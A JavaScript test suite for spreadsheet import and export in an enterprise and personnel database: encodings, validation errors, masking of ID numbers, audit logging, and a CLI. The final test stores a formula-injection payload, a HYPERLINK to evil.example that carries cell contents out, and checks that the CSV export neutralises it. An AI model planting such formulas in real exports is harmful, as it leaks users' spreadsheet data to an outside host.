// Spreadsheet import and export through the API: templates, CSV in UTF-8
// and GBK, xlsx from openpyxl with a title row, one transaction per file
// with errors naming Excel rows, the error workbook, upsert by natural key,
// masked and unmasked exports and their audit rows, and the round trip.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { World, makeUscc } from './harness.mjs';

const w = new World('transfer');
let admin;
let viewer;
const PY = '/usr/bin/python3';

before(async () => {
  w.seed();
  w.addUser('viewer1', { role: 'viewer' });
  await w.start();
  admin = await w.login('admin');
  viewer = await w.login('viewer1');
});

after(() => w.teardown());

function idcard(region, birth, seq) {
  const weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2];
  const first = `${region}${birth}${seq}`;
  let sum = 0;
  for (let i = 0; i < 17; i++) sum += Number(first[i]) * weights[i];
  return first + '10X98765432'[sum % 11];
}

function python(script, args = []) {
  const r = spawnSync(PY, ['-c', script, ...args], { encoding: 'utf8' });
  assert.equal(r.status, 0, `python failed: ${r.stderr}`);
  return r.stdout;
}

function upload(client, entity, bytes, query = '') {
  return client.request('POST', `/api/v1/${entity}/import${query}`, bytes,
    { headers: { 'Content-Type': 'application/octet-stream' } });
}

async function count(entity, params = {}) {
  return (await admin.list(entity, { ...params, size: 1 })).total;
}

test('the template has Chinese headers, drop-downs and an instructions sheet', async () => {
  const r = await admin.request('GET', '/api/v1/need/template.xlsx', undefined, { raw: true });
  assert.equal(r.status, 200, String(r));
  assert.match(r.headers.get('content-type'), /spreadsheetml/);
  assert.match(r.headers.get('content-disposition'), /attachment;.*filename\*=UTF-8''/);
  const file = path.join(w.dir, 'need-template.xlsx');
  fs.writeFileSync(file, Buffer.from(await (await fetch(w.base + '/api/v1/need/template.xlsx',
    { headers: { Cookie: admin.cookie } })).arrayBuffer()));
  const out = JSON.parse(python(`
import json, sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
ws = wb.worksheets[0]
print(json.dumps({"sheets": wb.sheetnames,
  "header": [c.value for c in ws[1]],
  "validations": [dv.formula1 for dv in ws.data_validations.dataValidation]}, ensure_ascii=False))`, [file]));
  assert.ok(out.header.includes('岗位名称') && out.header.includes('学历要求'), out.header.join(','));
  assert.ok(out.sheets.includes('填写说明'), out.sheets.join(','));
  assert.ok(out.validations.length >= 3, 'drop-downs for enum columns');
});

test('CSV in UTF-8 with BOM imports, resolves references by code or name, and re-import updates', async () => {
  const before = await count('enterprise');
  const u1 = makeUscc('320281');
  const u2 = makeUscc('320282');
  const seg = (await admin.list('segment', { size: 2, sort: 'id' })).items;
  const csv = '\ufeff企业名称,统一社会信用代码,所在区划,规上企业,主营产品,所属产业链环节\r\n'
    + `江阴导入测试一有限公司,${u1},320281,是,"晶圆, 芯片",${seg[0].name}\r\n`
    + `宜兴导入测试二有限公司,${u2},宜兴市,否,"多行
说明",\r\n`;
  const dry = await upload(admin, 'enterprise', csv, '?dry_run=1');
  assert.equal(dry.status, 200, String(dry));
  assert.equal(dry.body.inserted, 2);
  assert.equal(dry.body.dry_run, true);
  assert.equal(await count('enterprise'), before, 'a dry run writes nothing');

  const r = await upload(admin, 'enterprise', csv);
  assert.equal(r.status, 200, String(r));
  assert.deepEqual([r.body.inserted, r.body.updated, r.body.errors.length], [2, 0, 0]);
  assert.equal(r.body.encoding, 'UTF-8 BOM');
  const one = (await admin.list('enterprise', { uscc: u1 })).items[0];
  assert.equal(one._labels.region_id, '江阴市');
  assert.equal(one.above_scale, true);
  assert.equal(one.main_products, '晶圆, 芯片');
  assert.deepEqual(one.segment_ids, [seg[0].id]);
  // the whole file is one audit row naming the records it created, not a row per record
  const imp = (await (await w.loginRole('auditadmin')).list('audit_log', { action: 'import', entity: 'enterprise', sort: '-id' })).items[0];
  const created = JSON.parse(imp.detail).created.enterprise;
  assert.ok(created.some(([a, b]) => a <= one.id && one.id <= b), imp.detail);
  assert.equal((await (await w.loginRole('auditadmin')).list('audit_log', { action: 'create', entity: 'enterprise', entity_id: one.id })).total, 0);

  const again = await upload(admin, 'enterprise', csv.replace('江阴导入测试一有限公司', '江阴导入测试一股份有限公司'));
  assert.equal(again.status, 200, String(again));
  assert.deepEqual([again.body.inserted, again.body.updated, again.body.unchanged], [0, 1, 1],
    'only the renamed row changes');
  assert.equal(await count('enterprise'), before + 2, 'no duplicates');
  assert.equal((await admin.list('enterprise', { uscc: u1 })).items[0].name, '江阴导入测试一股份有限公司');
  // an update keeps its own audit row with the field-level change
  const upd = (await (await w.loginRole('auditadmin')).list('audit_log', { action: 'update', entity: 'enterprise', entity_id: one.id })).items;
  assert.equal(upd.length, 1);
  assert.equal(JSON.parse(upd[0].detail).changes.name.new, '江阴导入测试一股份有限公司');
});

test('GBK CSV (as Excel on Chinese Windows writes it) is detected', async () => {
  const utf8 = `企业名称,统一社会信用代码,所在区划\n无锡国标编码测试有限公司,${makeUscc('320214')},新吴区\n`;
  const gbk = spawnSync('iconv', ['-f', 'UTF-8', '-t', 'GBK'], { input: utf8 });
  assert.equal(gbk.status, 0);
  const r = await upload(admin, 'enterprise', gbk.stdout);
  assert.equal(r.status, 200, String(r));
  assert.equal(r.body.encoding, 'GB18030');
  assert.equal((await admin.list('enterprise', { q: '国标编码测试' })).total, 1);
});

test('bad rows are reported by Excel row and column, nothing is written, and the error workbook lists them', async () => {
  const people = await count('person');
  const rows = ['姓名,身份证号,所在区划,手机号'];
  for (let i = 0; i < 8; i++) {
    let id = idcard('320281', `1980010${i + 1}`, '12' + i);
    if (i === 2 || i === 5) id = id.slice(0, 17) + (id[17] === '0' ? '1' : '0'); // bad check digit
    rows.push(`测试人${i},${id},320281,1390000000${i}`);
  }
  const csv = rows.join('\n') + '\n';
  const r = await upload(admin, 'person', csv);
  assert.equal(r.status, 422, String(r));
  assert.equal(r.body.error.code, 'validation_failed');
  const bad = [...new Set(r.body.errors.map((e) => e.row))].sort();
  assert.deepEqual(bad, [4, 7], 'header is row 1, so data rows 3 and 6 are Excel rows 4 and 7');
  for (const e of r.body.errors) {
    assert.equal(e.column, '身份证号');
    assert.match(e.message, /校验位/);
  }
  assert.equal(await count('person'), people, 'nothing written');

  const book = await fetch(`${w.base}/api/v1/person/import?errors=xlsx`, {
    method: 'POST', body: csv, headers: { Cookie: admin.cookie, 'X-CSRF-Token': admin.csrf },
  });
  assert.equal(book.status, 200);
  const file = path.join(w.dir, 'errors.xlsx');
  fs.writeFileSync(file, Buffer.from(await book.arrayBuffer()));
  const out = JSON.parse(python(`
import json, sys, openpyxl
ws = openpyxl.load_workbook(sys.argv[1]).worksheets[0]
print(json.dumps([[c.value for c in r] for r in ws.iter_rows()], ensure_ascii=False, default=str))`, [file]));
  assert.equal(out.length, 3, 'header and the two bad rows');
  assert.equal(out[0].at(-1), '错误原因');
  assert.deepEqual(out.slice(1).map((r) => Number(r[0])), [4, 7]);
  assert.match(out[1].at(-1), /身份证号/);
});

test('an xlsx from openpyxl with a merged title row and a date cell imports', async () => {
  const file = path.join(w.dir, 'talents.xlsx');
  const id = idcard('320214', '19920315', '351');
  python(`
import sys, datetime, openpyxl
wb = openpyxl.Workbook(); ws = wb.active; ws.title = "人才"
ws.append(["2026年新引进人才名单"]); ws.merge_cells("A1:F1")
ws.append(["姓名", "身份证号", "所在区划", "人才类别", "专业技能", "参加工作时间"])
ws.append(["赵新才", sys.argv[2], "320214", "青年人才", "数字IC设计、版图设计", datetime.date(2016, 7, 1)])
wb.save(sys.argv[1])`, [file, id]);
  const r = await upload(admin, 'talent', fs.readFileSync(file));
  assert.equal(r.status, 200, String(r));
  assert.equal(r.body.inserted, 1);
  const person = (await admin.list('person', { idcard: id })).items[0];
  assert.equal(person.name, '赵新才');
  assert.equal(person.work_start, '2016-07-01');
  assert.equal(person.birth_date, '1992-03-15');
  const talent = (await admin.list('talent', { person_id: person.id })).items[0];
  assert.deepEqual(talent.skills, ['数字IC设计', '版图设计']);
});

test('exports mask personal data; the unmasked export needs the permission and is audited', async () => {
  const raw = await fetch(`${w.base}/api/v1/person/export?format=csv`, { headers: { Cookie: admin.cookie } });
  assert.equal(raw.status, 200);
  const bytes = Buffer.from(await raw.arrayBuffer());
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'CSV starts with a BOM');
  const text = bytes.toString('utf8');
  assert.ok(text.includes('\r\n'), 'CRLF line ends');
  assert.doesNotMatch(text, /\b\d{17}[\dX]\b/, 'no ID number in clear');
  assert.match(text, /\d{3}\*{11}[\dX]{4}/);

  assert.equal((await viewer.request('GET', '/api/v1/person/export?unmasked=1')).status, 403);
  const clear = await admin.request('GET', '/api/v1/person/export?format=csv&unmasked=1');
  assert.equal(clear.status, 200);
  assert.match(clear.text, /\b\d{17}[\dX]\b/);
  const audit = await (await w.loginRole('auditadmin')).list('audit_log', { action: 'export_unmasked', entity: 'person' });
  assert.ok(audit.total >= 1);
});

test('export → import round trip leaves the data unchanged', async () => {
  const before = (await admin.listAll('enterprise')).items;
  const xlsx = await fetch(`${w.base}/api/v1/enterprise/export?format=xlsx`, { headers: { Cookie: admin.cookie } });
  assert.equal(xlsx.status, 200);
  const r = await upload(admin, 'enterprise', Buffer.from(await xlsx.arrayBuffer()));
  assert.equal(r.status, 200, String(r).slice(0, 2000));
  assert.equal(r.body.inserted, 0);
  assert.equal(r.body.updated, 0);
  assert.equal(r.body.unchanged, before.length);
  const afterRows = (await admin.listAll('enterprise')).items;
  const strip = (e) => { const { version, updated_at, created_at, ...rest } = e; return rest; };
  assert.deepEqual(afterRows, before, 'not even versions move');
});

test('the CLI imports with a summary and exits non-zero with the error workbook path', async () => {
  const good = path.join(w.dir, 'skills.csv');
  fs.writeFileSync(good, '技能,同义词\n量子测控,量子测量、量子控制\n');
  const ok = w.cli(['import', 'skill', good]);
  assert.equal(ok.status, 0, ok.stderr);
  assert.match(ok.stdout, /导入完成.*新增 1/);
  const bad = path.join(w.dir, 'bad.csv');
  fs.writeFileSync(bad, '企业名称,统一社会信用代码,所在区划\n坏企业,123,新吴区\n');
  const r = w.cli(['import', 'enterprise', bad], { check: false });
  assert.equal(r.status, 1);
  assert.match(r.stderr, /第2行 统一社会信用代码/);
  assert.match(r.stderr, /错误清单：.*bad\.csv\.错误清单\.xlsx/);
  assert.ok(fs.existsSync(`${bad}.错误清单.xlsx`));
});

test('a person record is masked everywhere and revealed only with the permission, audited', async () => {
  const person = (await admin.list('person', { size: 1 })).items[0];
  assert.match(person.idcard, /^\d{3}\*{11}[\dX]{4}$/);
  const got = await viewer.get(`/api/v1/person/${person.id}`);
  assert.equal(got.status, 200);
  assert.equal(got.body.idcard, person.idcard, 'get is masked too');
  const denied = await viewer.get(`/api/v1/person/${person.id}/reveal?field=idcard`);
  assert.equal(denied.status, 403);
  const before = (await (await w.loginRole('auditadmin')).list('audit_log', { action: 'reveal' })).total;
  const shown = await admin.get(`/api/v1/person/${person.id}/reveal?field=idcard`);
  assert.equal(shown.status, 200, String(shown));
  assert.match(shown.body.value, /^\d{17}[\dX]$/);
  assert.equal(shown.body.value.slice(-4), person.idcard.slice(-4));
  assert.equal((await (await w.loginRole('auditadmin')).list('audit_log', { action: 'reveal' })).total, before + 1);
  const byNumber = await admin.list('person', { idcard: shown.body.value });
  assert.equal(byNumber.total, 1, 'found again by the full number through the keyed hash');
  assert.equal((await admin.get(`/api/v1/person/${person.id}/reveal?field=name`)).status, 400);
});

test('CSV export guards text that Excel would run as a formula, and imports it back unchanged', async () => {
  const region = (await admin.list('region', { level: '区县' })).items[0];
  const uscc = makeUscc(region.code.slice(0, 6));
  const evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
  const c = await admin.post('/api/v1/enterprise', {
    name: '公式注入测试有限公司', uscc, region_id: region.id, main_products: evil,
  });
  assert.equal(c.status, 201, String(c));
  const res = await fetch(`${w.base}/api/v1/enterprise/export?format=csv&uscc=${uscc}`,
    { headers: { Cookie: admin.cookie } });
  assert.equal(res.status, 200);
  const csv = await res.text();
  assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`), csv.slice(0, 500));
  assert.ok(!/(^|,)=HYPERLINK/m.test(csv), 'no cell starts with =');
  const back = await upload(admin, 'enterprise', csv);
  assert.equal(back.status, 200, String(back));
  assert.deepEqual([back.body.inserted, back.body.updated, back.body.unchanged], [0, 0, 1]);
  assert.equal((await admin.get(`/api/v1/enterprise/${c.body.id}`)).body.main_products, evil);
});
